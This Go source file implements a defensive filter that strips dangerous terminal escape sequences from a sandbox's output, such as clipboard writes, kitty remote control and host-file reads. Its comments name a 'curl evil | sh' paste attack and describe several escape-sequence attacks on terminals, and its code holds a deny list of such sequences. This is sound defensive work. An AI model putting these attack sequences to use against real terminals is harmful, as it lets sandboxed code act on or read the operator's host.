// Package ttyfilter is what of a sandbox's terminal output may reach the operator's
// terminal: the one filter both backends pass it through (bwrap's relay, the vm backend's
// box shell, box exec and box tmux on a terminal).
package ttyfilter

import (
	"bytes"
	"encoding/binary"
	"io"
	"strings"
)

// The sandbox's terminal output reaches the host's terminal emulator, which obeys more
// than text. Three things are not the sandbox's to do there (hostile reviews did each):
//   - operating system commands that act outside the terminal's screen: OSC 52 sets the
//     host's clipboard (a "curl evil | sh" the operator pastes later), kitty's OSC 5522
//     reads and writes it too, iTerm2's OSC 1337 writes files (File=) and sets
//     variables, OSC 50 changes the font (the old xterm font-name exploits); Filter
//     passes only the OSC numbers it knows to act on the screen (allowedOSC) and drops
//     every other from the stream;
//   - the other string sequences, which terminals give powers no list of names keeps up
//     with: a DCS "@kitty-cmd" is kitty's remote control (with allow_remote_control yes,
//     "launch" runs a command on the host and "get-text" reads your other windows), a
//     DCS "|" is DECUDK (xterm: your function keys type the sandbox's text into whatever
//     you run after it), "1000p" starts iTerm2's tmux integration, "tmux;" hands a
//     sequence to the terminal outside tmux, an APC "G" with t=f, t=t or t=s makes kitty
//     read (and for t=t delete) a host file by its path. So they fail closed: Filter
//     passes only the DCS it knows to act on the screen or answer a query (sixel,
//     DECRQSS, XTGETTCAP, synchronized update) and kitty's graphics sent in the
//     sequence itself (t=d); every other DCS, APC, PM and SOS is dropped;
//   - a screen state left behind (concealed text, an alternate screen, a hidden cursor,
//     mouse reporting) that hides or garbles what box prints after the run, its audit
//     report first; Reset puts those back before box says anything.
//
// Other sequences (CSI and ESC: colours, cursor motion; the allowed OSCs: titles,
// hyperlinks, queries whose answers come back to the sandbox's own terminal) pass unchanged.

// droppedOSC are the OSC numbers known to act outside the screen (kitty's 5113 is its
// file transfer, both ways): dropped whatever follows the number (kitty skips it).
var droppedOSC = []int{52, 5522, 1337, 50, 5113}

// allowedOSC are the OSC numbers Filter passes: what acts on the screen, answers a query
// on the sandbox's own terminal, or tells the terminal where the prompt and the directory
// are. Every other number followed by ';' is dropped: terminals and the programs they run
// in give OSC numbers powers no list of names keeps up with (a hostile review, session 12:
// OSC 51 is vim's terminal API, whose ["drop","scp://HOST/x"] has netrw run scp or curl,
// and emacs vterm's, whose E;find-file "/ssh:HOST:" has TRAMP run ssh as you, reaching a
// host from a sandbox without network; OSC 3 sets an X property of your terminal's window;
// OSC 46 names xterm's log file). A rule checks the text after the ';' (oscMaxPayload
// bytes at most) where the number alone does not decide; nil passes it at once.
var allowedOSC = map[int]func(text []byte, end bool) (pass, decided bool){
	0: nil, 1: nil, 2: nil, // the title and icon name
	4: nil, 5: nil, 6: nil, // the palette and the special colours, set or queried
	7: nil, // the working directory (a new tab opens there)
	8: nil, // hyperlinks
	// 10-19: the dynamic colours (foreground, background, cursor, ...), set or queried;
	// 104-119 reset them.
	10: nil, 11: nil, 12: nil, 13: nil, 14: nil, 15: nil, 16: nil, 17: nil, 18: nil, 19: nil,
	104: nil, 105: nil, 106: nil, 110: nil, 111: nil, 112: nil, 113: nil, 114: nil, 115: nil, 116: nil, 117: nil, 118: nil, 119: nil,
	9:   osc9Rule, // iTerm2's and Ghostty's notification; ConEmu's commands are dropped
	21:  nil,      // kitty's colour control
	22:  nil,      // the pointer's shape
	66:  nil,      // kitty's text sizing
	99:  nil,      // kitty's notification
	133: nil,      // the prompt's marks (FinalTerm, kitty, WezTerm, VS Code)
	633: nil,      // VS Code's shell integration marks
	777: osc777Rule,
	// kitty's colour stack (push, pop).
	30001: nil, 30101: nil,
}

// oscMaxPayload bounds the text a rule of allowedOSC reads before it must decide.
const oscMaxPayload = 16

// osc9Rule passes OSC 9 as iTerm2's and Ghostty's notification (text) and Windows
// Terminal's progress bar (9;4;...), and drops ConEmu's other numbered commands: 9;6 runs
// a GuiMacro, 9;7 starts a process.
func osc9Rule(text []byte, end bool) (pass, decided bool) {
	i := 0
	for i < len(text) && text[i] >= '0' && text[i] <= '9' {
		i++
	}
	switch {
	case len(text) == 0 && !end:
		return false, false
	case i == 0:
		return true, true // a notification's text
	case i == len(text) && !end:
		return false, false // the number may go on
	}
	return string(text[:i]) == "4", true
}

// osc777Rule passes rxvt's OSC 777 only as the notification foot and Ghostty take it
// ("notify;"): the rest goes to urxvt's perl extensions, which do what each was written to.
func osc777Rule(text []byte, end bool) (pass, decided bool) {
	const want = "notify;"
	if len(text) < len(want) && !end && strings.HasPrefix(want, string(text)) {
		return false, false
	}
	return strings.HasPrefix(string(text), want), true
}

// oscMaxDrop bounds what one dropped sequence swallows: past it the filter lets bytes
// through again (as text: the terminal never saw the sequence's start), so a sequence
// never terminated cannot silence the sandbox's output for good.
const oscMaxDrop = 1 << 20

// oscMaxDigits bounds the number held: a longer one is no command any terminal defines,
// and is dropped whole rather than held without end.
const oscMaxDigits = 16

type oscState uint8

const (
	oscGround  oscState = iota
	oscEsc              // after ESC
	oscNumber           // after ESC ] or the 8-bit OSC (0x9d), reading the number
	oscDrop             // inside a dropped sequence
	oscDropEsc          // inside a dropped sequence, after ESC
	oscText             // after an allowed number with a rule and ';', reading the text it decides on
	strHeader           // after a DCS or APC introducer, reading what decides it
)

// strKind is the string sequence whose header strHeader reads.
type strKind uint8

const (
	strDCS strKind = iota
	strAPC
)

// strMaxHeader bounds a DCS's parameters and intermediates, or an APC's control data,
// held before the decision: past it the sequence is no one box passes, and is dropped.
const strMaxHeader = 64

// The 8-bit introducers of the other string sequences (DCS, SOS, PM, APC). Unlike 0x9d
// they are taken for one only where a UTF-8 terminal reads a control: raw, where no
// UTF-8 character is being continued, or encoded (C2 90: U+0090). Inside a character
// (Cyrillic A is D0 90) a UTF-8 terminal reads text; dropping from there would garble
// every such text, since these sequences fail closed whatever follows.
const (
	c1DCS = 0x90
	c1SOS = 0x98
	c1PM  = 0x9e
	c1APC = 0x9f
)

// groundStop marks the bytes the ground state stops at: ESC and the 8-bit introducers.
var groundStop = func() (t [256]bool) {
	for _, b := range []byte{0x1b, c1DCS, c1SOS, c1OSC, c1PM, c1APC} {
		t[b] = true
	}
	return t
}()

// c1OSC is the 8-bit OSC. A terminal in UTF-8 reads it encoded (C2 9D, U+009D: xterm,
// VTE), an 8-bit one raw, and an 8-bit one reads it inside a UTF-8 character too (the
// last byte of a right double quote, E2 80 9D): so every 0x9d byte is taken for an
// introducer, and text where one is followed at once by a dropped number is dropped
// with it (it is never a character's text but there).
const c1OSC = 0x9d

// Filter removes the dropped OSC sequences from a byte stream cut anywhere.
type Filter struct {
	state   oscState
	c1      bool   // the sequence began with c1OSC, not ESC ]
	num     []byte // the OSC number read so far (at most oscMaxDigits)
	text    []byte // the text after the number an allowedOSC rule decides on
	dropped int
	// DenyOnly: only droppedOSC is dropped (a test build with bwrap's osc-allowlist
	// off: the filter as it was before the allowlist).
	DenyOnly bool
	// A DCS or APC being decided: its kind, its introducer as written (ESC P, or the
	// 8-bit byte) and the header read so far.
	kind  strKind
	intro []byte
	hdr   []byte
	// hist is the last bytes of ground text before src (at most 3): whether an 8-bit
	// introducer at src's start continues a UTF-8 character.
	hist []byte
}

// filter appends what of src passes to dst and returns it. The bytes of a sequence cut
// by a read (ESC, ESC ], a number) are held until the next call decides them.
func (f *Filter) Append(dst, src []byte) []byte {
	for len(src) > 0 {
		switch f.state {
		case oscGround:
			i := f.groundEnd(src)
			if i < 0 {
				f.remember(src)
				return append(dst, src...)
			}
			dst = append(dst, src[:i]...)
			b := src[i]
			src = src[i+1:]
			f.hist = f.hist[:0]
			switch b {
			case 0x1b:
				f.state = oscEsc
			case c1OSC:
				f.state, f.c1, f.num = oscNumber, true, f.num[:0]
			case c1DCS:
				f.startString(strDCS, []byte{b})
			case c1APC:
				f.startString(strAPC, []byte{b})
			default: // SOS, PM: nothing a terminal should obey from the sandbox
				f.state, f.dropped = oscDrop, 0
			}
		case oscEsc:
			b := src[0]
			switch b {
			case ']':
				f.state, f.c1, f.num = oscNumber, false, f.num[:0]
				src = src[1:]
			case 'P':
				f.startString(strDCS, []byte{0x1b, 'P'})
				src = src[1:]
			case '_':
				f.startString(strAPC, []byte{0x1b, '_'})
				src = src[1:]
			case '^', 'X': // PM, SOS
				f.state, f.dropped = oscDrop, 0
				src = src[1:]
			case 0x1b:
				dst = append(dst, 0x1b) // ESC ESC: the first is done, the second starts again
				src = src[1:]
			default:
				dst = append(dst, 0x1b)
				f.state = oscGround
			}
		case oscNumber:
			b := src[0]
			switch {
			case b >= '0' && b <= '9' && len(f.num) < oscMaxDigits:
				f.num = append(f.num, b)
				src = src[1:]
			case b >= '0' && b <= '9':
				f.state, f.dropped = oscDrop, 0 // no terminal's command: dropped whole
			case b == ';' && (oscSuspect(f.num) || !f.DenyOnly && !oscAllowed(f.num)):
				f.state, f.dropped = oscDrop, 0
				src = src[1:]
			case b == ';' && !f.DenyOnly && allowedOSC[oscValue(f.num)] != nil:
				f.state, f.text = oscText, f.text[:0]
				src = src[1:]
			case oscDroppedNumber(f.num), !f.c1 && !f.DenyOnly && len(f.num) > 0 && !oscAllowed(f.num):
				// Some terminals skip whatever follows the number (kitty): dropped
				// whatever it is, b included (a terminator ends the drop at once). A
				// number off the list after 0x9d, which may be a quote's last byte in
				// text ("”3 apples"), is dropped only before ';'.
				f.state, f.dropped = oscDrop, 0
			default:
				// Not one to drop: what was held goes out, and b is read as usual.
				dst = f.held(dst)
				f.state = oscGround
			}
		case oscText:
			b := src[0]
			end := b == 0x07 || b == 0x1b || b == 0x18 || b == 0x1a || len(f.text) == oscMaxPayload
			if !end {
				f.text = append(f.text, b)
				src = src[1:]
			}
			pass, decided := allowedOSC[oscValue(f.num)](f.text, end)
			switch {
			case decided && pass:
				dst = append(f.held(dst), ';')
				dst = append(dst, f.text...)
				f.state = oscGround
			case decided || end:
				// The terminator, if that is what b is, ends the drop at once.
				f.state, f.dropped = oscDrop, len(f.text)
			}
		case oscDrop:
			room := oscMaxDrop - f.dropped
			i := bytes.IndexAny(src, "\x07\x1b\x18\x1a")
			if i < 0 || i > room {
				n := len(src)
				if i >= 0 {
					n = i
				}
				if n > room { // the bound: what follows passes
					src, f.state = src[room:], oscGround
					continue
				}
				f.dropped += n
				src = src[n:]
				continue
			}
			if src[i] == 0x1b {
				f.state = oscDropEsc
			} else {
				f.state = oscGround // BEL ends it; CAN and SUB cancel it
			}
			src = src[i+1:]
		case strHeader:
			act := f.header(src[0])
			if act&hdrTake != 0 {
				src = src[1:]
			}
			switch {
			case act&hdrPass != 0:
				dst = append(dst, f.intro...)
				dst = append(dst, f.hdr...)
				f.state = oscGround
			case act&hdrDrop != 0:
				f.state, f.dropped = oscDrop, 0
			}
		case oscDropEsc:
			if src[0] == '\\' {
				f.state = oscGround // ST ends it
				src = src[1:]
			} else {
				f.state = oscEsc // ESC cancels the string and starts a sequence of its own
			}
		}
	}
	return dst
}

// startString begins deciding a DCS or APC introduced by intro.
func (f *Filter) startString(k strKind, intro []byte) {
	f.state, f.kind = strHeader, k
	f.intro = append(f.intro[:0], intro...)
	f.hdr = f.hdr[:0]
}

// What header does with a byte: takes it (into the header, or as the DCS's final byte)
// or leaves it to the next state, and whether the sequence is decided, passed or dropped.
const (
	hdrTake = 1 << iota
	hdrPass
	hdrDrop
)

// header reads one byte of a DCS's or APC's header and says what to do.
func (f *Filter) header(b byte) int {
	if f.kind == strAPC {
		switch {
		case len(f.hdr) == 0 && b != 'G':
			return hdrDrop // no APC but kitty's graphics is passed
		case b == ';' || b == 0x1b:
			// The control data's end: the payload (or ST) follows.
			if kittyDirect(f.hdr[1:]) {
				return hdrPass
			}
			return hdrDrop
		case len(f.hdr) < strMaxHeader && (b == 'G' && len(f.hdr) == 0 || kittyCtrlByte(b)):
			f.hdr = append(f.hdr, b)
			return hdrTake
		}
		return hdrDrop
	}
	switch {
	case b >= 0x20 && b <= 0x3f && len(f.hdr) < strMaxHeader: // parameters, intermediates
		f.hdr = append(f.hdr, b)
		return hdrTake
	case b >= 0x40 && b <= 0x7e: // the final byte
		f.hdr = append(f.hdr, b)
		if dcsKnown(f.hdr) {
			return hdrTake | hdrPass
		}
		return hdrTake | hdrDrop
	}
	return hdrDrop // a control, ESC, or a header past the bound: no DCS box passes
}

// dcsKnown: a DCS (parameters, intermediates, final byte) box passes: sixel graphics
// ("q" after numeric parameters), DECRQSS ("$q") and XTGETTCAP ("+q"), whose answers
// come back to the sandbox's own terminal, and the synchronized update ("=1s", "=2s").
// Every other (DECUDK "|", XTSETTCAP "+p", DECRSTS "$p", kitty's "@kitty-cmd", tmux's
// "tmux;", iTerm2's "1000p", ReGIS, soft fonts, ...) is dropped.
func dcsKnown(h []byte) bool {
	final, h := h[len(h)-1], h[:len(h)-1]
	i := 0
	for i < len(h) && h[i] >= 0x30 { // parameters 0x30-0x3f
		i++
	}
	params, inter := string(h[:i]), string(h[i:])
	for _, c := range []byte(inter) {
		if c >= 0x30 {
			return false // a parameter after an intermediate: malformed
		}
	}
	switch {
	case final == 'q' && inter == "":
		return strings.Trim(params, "0123456789;") == "" // sixel
	case final == 'q' && (inter == "$" || inter == "+"):
		return params == ""
	case final == 's' && inter == "":
		return params == "=1" || params == "=2"
	}
	return false
}

// kittyCtrlByte: a byte of kitty graphics' control data (key=value pairs by commas).
func kittyCtrlByte(b byte) bool {
	return b >= 'a' && b <= 'z' || b >= 'A' && b <= 'Z' || b >= '0' && b <= '9' || b == '=' || b == ',' || b == '-'
}

// kittyDirect: kitty graphics control data whose image, if any, travels in the sequence
// itself (t absent or t=d). t=f, t=t and t=s make kitty open a path or a shared-memory
// object on the host, as you (t=t and t=s then delete it); a malformed pair is dropped.
func kittyDirect(ctrl []byte) bool {
	if len(ctrl) == 0 {
		return true
	}
	for _, kv := range bytes.Split(ctrl, []byte{','}) {
		k, v, ok := bytes.Cut(kv, []byte{'='})
		if !ok || len(k) != 1 || len(v) == 0 {
			return false
		}
		if k[0] == 't' && string(v) != "d" {
			return false
		}
	}
	return true
}

// groundEnd is where src's ground text ends: the index of the first ESC or 8-bit
// introducer a UTF-8 terminal reads as a control (-1: none). It looks a window at a
// time for ESC (IndexByte) and for a byte with its high bit set (a word at a time),
// so plain text costs no per-byte branch and no window is read twice.
func (f *Filter) groundEnd(src []byte) int {
	const window = 512
	for start := 0; start < len(src); start += window {
		w := src[start:min(start+window, len(src))]
		lim := len(w)
		if e := bytes.IndexByte(w, 0x1b); e >= 0 {
			lim = e
		}
		for i := 0; i < lim; i++ {
			if i+8 <= lim && binary.LittleEndian.Uint64(w[i:])&0x8080808080808080 == 0 {
				i += 7
				continue
			}
			if b := w[i]; groundStop[b] && (b == c1OSC || f.c1Control(src, start+i)) {
				return start + i
			}
		}
		if lim < len(w) {
			return start + lim
		}
	}
	return -1
}

// c1Control: the byte at src[i] (0x80-0xbf) is a control to a UTF-8 terminal, not a
// character's continuation: no lead byte before it expects it, or it follows C2 at once
// (U+0080-U+009F are the C1 controls). The bytes before src are f.hist.
func (f *Filter) c1Control(src []byte, i int) bool {
	before := func(k int) int { // the byte k places before src[i], -1 when unknown
		if j := i - k; j >= 0 {
			return int(src[j])
		} else if j += len(f.hist); j >= 0 {
			return int(f.hist[j])
		}
		return -1
	}
	k := 0 // continuation bytes right before
	for k < 3 {
		if c := before(k + 1); c >= 0x80 && c <= 0xbf {
			k++
			continue
		}
		break
	}
	lead, need := before(k+1), 0
	switch {
	case lead >= 0xc2 && lead <= 0xdf:
		need = 1
	case lead >= 0xe0 && lead <= 0xef:
		need = 2
	case lead >= 0xf0 && lead <= 0xf4:
		need = 3
	}
	if lead == 0xc2 && k == 0 {
		return true // U+0090, U+0098, U+009E, U+009F
	}
	return k+1 > need
}

// remember keeps the last ground bytes for c1Control across reads.
func (f *Filter) remember(src []byte) {
	if len(src) >= 3 {
		f.hist = append(f.hist[:0], src[len(src)-3:]...)
		return
	}
	f.hist = append(f.hist, src...)
	if n := len(f.hist); n > 3 {
		f.hist = append(f.hist[:0], f.hist[n-3:]...)
	}
}

// held appends the OSC's introducer and number, held until decided, to dst.
func (f *Filter) held(dst []byte) []byte {
	if f.c1 {
		dst = append(dst, c1OSC)
	} else {
		dst = append(dst, 0x1b, ']')
	}
	return append(dst, f.num...)
}

// oscValue is the number as terminals read it (leading zeros ignored: xterm, kitty and
// VTE take "052" for 52); -1 for none or more than five digits.
func oscValue(num []byte) int {
	if len(num) == 0 || len(num) > 5 {
		return -1
	}
	n := 0
	for _, c := range num {
		n = n*10 + int(c-'0')
	}
	return n
}

// oscDroppedNumber: the number is one of droppedOSC.
func oscDroppedNumber(num []byte) bool {
	n := oscValue(num)
	for _, d := range droppedOSC {
		if n == d {
			return true
		}
	}
	return false
}

// oscAllowed: the number is one of allowedOSC.
func oscAllowed(num []byte) bool {
	_, ok := allowedOSC[oscValue(num)]
	return ok
}

// oscSuspect: a number box drops before ';': a dropped one, or one written in a form no
// program needs whose value a terminal may read as anything (leading zeros, more digits
// than any command has: xterm's int wraps, so 4294967348 is 52 to it).
func oscSuspect(num []byte) bool {
	return oscDroppedNumber(num) || len(num) > 5 || (len(num) > 1 && num[0] == '0')
}

// Reset puts back the screen state a sandbox may have left, before box prints:
// attributes (conceal, colours), the main screen (?47l: ?1049l would also restore a
// cursor position saved long before), the cursor shown, mouse and focus reporting and
// bracketed paste off, the ASCII character set in G0 and selected (a line-drawing set
// garbles every letter), and the whole screen as the scroll region (a region of two rows
// showed only the last two lines of the audit report). Neither the region's reset nor
// origin mode's (?6l) may move the cursor: every terminal homes it on both, and the next
// prompt overwrote the top of the screen after every run (field review, session 18). So
// the region is reset between a save and a restore of the cursor (ESC 7, ESC 8), and
// origin mode is left as it is: with the whole screen as the region it changes nothing.
// A shell turns on what it uses again at its next prompt.
const Reset = "\x1b[0m\x1b[?47l\x1b[?25h\x1b[?1000l\x1b[?1002l\x1b[?1003l\x1b[?1006l\x1b[?1004l\x1b[?2004l\x1b(B\x0f\x1b7\x1b[r\x1b8"

// Writer passes what is written through a Filter to W: for a caller handed a stream (the
// vm backend's exec), where bwrap's relay calls Append itself.
type Writer struct {
	W   io.Writer
	f   Filter
	out []byte
}

// NewWriter filters what it is given into w.
func NewWriter(w io.Writer) *Writer { return &Writer{W: w} }

// Write filters p into W and reports p consumed: what the filter drops, or holds until
// the next write decides it, was written as far as the caller is concerned.
func (w *Writer) Write(p []byte) (int, error) {
	w.out = w.f.Append(w.out[:0], p)
	if len(w.out) == 0 {
		return len(p), nil
	}
	if _, err := w.W.Write(w.out); err != nil {
		return 0, err
	}
	return len(p), nil
}
